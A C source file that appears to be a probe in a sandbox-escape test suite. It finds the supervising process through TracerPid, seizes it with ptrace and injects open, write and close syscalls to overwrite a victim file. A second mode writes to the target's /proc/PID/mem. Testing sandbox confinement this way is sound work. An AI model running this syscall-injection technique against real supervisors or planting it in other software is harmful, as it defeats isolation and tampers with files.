/* Reaching the monitor, a process outside the view: its pid is this
 * process's TracerPid (natively, with no tracer: the parent, a process of
 * the same user outside any view).
 *
 *   ptrace_monitor seize VICTIM   PTRACE_SEIZE it, stop it, make it run
 *                                 open(VICTIM, O_WRONLY|O_TRUNC), write,
 *                                 close (syscall injection), let it go on
 *   ptrace_monitor mem VICTIM     open its /proc/PID/mem read-write and
 *                                 write one byte of its stack back (VICTIM
 *                                 is not touched)
 */
#include "escape.h"
#include <sys/ptrace.h>
#include <sys/user.h>

static pid_t target;

static pid_t find_target(void)
{
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    int pid = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "TracerPid: %d", &pid) == 1)
            break;
    if (f)
        fclose(f);
    return pid ? pid : getppid();
}

static void regs(int request, struct user_regs_struct *r)
{
    if (ptrace(request, target, 0, r))
        fail(request == PTRACE_GETREGS ? "PTRACE_GETREGS" : "PTRACE_SETREGS");
}

/* run one system call in the stopped target, at its syscall instruction */
static long inject(const struct user_regs_struct *base, unsigned long at, long nr, long a, long b, long c)
{
    struct user_regs_struct r = *base;
    r.rip = at;
    r.rax = nr;
    r.orig_rax = -1;  /* no syscall restart */
    r.rdi = a;
    r.rsi = b;
    r.rdx = c;
    regs(PTRACE_SETREGS, &r);
    int status;
    if (ptrace(PTRACE_SINGLESTEP, target, 0, 0) || waitpid(target, &status, __WALL) != target)
        fail("PTRACE_SINGLESTEP");
    regs(PTRACE_GETREGS, &r);
    return r.rax;
}

static void poke_string(unsigned long addr, const char *s)
{
    size_t n = strlen(s) + 1;
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, s + i, n - i < sizeof word ? n - i : sizeof word);
        if (ptrace(PTRACE_POKEDATA, target, addr + i, word))
            fail("PTRACE_POKEDATA");
    }
}

static void seize(const char *victim)
{
    int status;
    if (ptrace(PTRACE_SEIZE, target, 0, 0))
        fail("PTRACE_SEIZE");
    if (ptrace(PTRACE_INTERRUPT, target, 0, 0) || waitpid(target, &status, __WALL) != target)
        fail("PTRACE_INTERRUPT");
    struct user_regs_struct base;
    regs(PTRACE_GETREGS, &base);
    errno = 0;
    long code = ptrace(PTRACE_PEEKTEXT, target, base.rip - 2, 0);
    if (errno || (code & 0xffff) != 0x050f) {  /* stopped in a system call: the syscall instruction */
        errno = ENOEXEC;
        fail("no syscall instruction before the target's rip");
    }
    unsigned long path = (base.rsp - 8192) & ~15UL, text = path + 4096;
    poke_string(path, victim);
    poke_string(text, ESCAPED);
    long fd = inject(&base, base.rip - 2, __NR_open, path, O_WRONLY | O_TRUNC, 0);
    long written = fd >= 0 ? inject(&base, base.rip - 2, __NR_write, fd, text, strlen(ESCAPED)) : fd;
    if (fd >= 0)
        inject(&base, base.rip - 2, __NR_close, fd, 0, 0);
    regs(PTRACE_SETREGS, &base);
    ptrace(PTRACE_DETACH, target, 0, 0);
    if (fd < 0 || written < 0) {
        errno = -(fd < 0 ? fd : written);
        fail("the injected open and write");
    }
}

static void mem(void)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)target);
    int fd = open(path, O_RDWR);
    if (fd < 0)
        fail(path);
    /* the byte at the target's stack pointer: from /proc/PID/stat, field 29 (kstkesp) is 0 for
     * others' tasks; use the start of its [stack] mapping's last page instead */
    snprintf(path, sizeof path, "/proc/%d/maps", (int)target);
    FILE *f = fopen(path, "r");
    char line[512];
    unsigned long start = 0, end = 0;
    while (f && fgets(line, sizeof line, f))
        if (strstr(line, "[stack]") && sscanf(line, "%lx-%lx", &start, &end) == 2)
            break;
    if (!end)
        fail("the target's stack");
    char byte;
    if (pread(fd, &byte, 1, end - 8) != 1 || pwrite(fd, &byte, 1, end - 8) != 1)
        fail("read and write back a byte of the target's stack");
}

int main(int argc, char **argv)
{
    if (argc != 3)
        unsupported("usage: ptrace_monitor seize|mem VICTIM");
    target = find_target();
    if (!strcmp(argv[1], "seize"))
        seize(argv[2]);
    else if (!strcmp(argv[1], "mem"))
        mem();
    else
        unsupported("unknown mode");
    return 0;
}
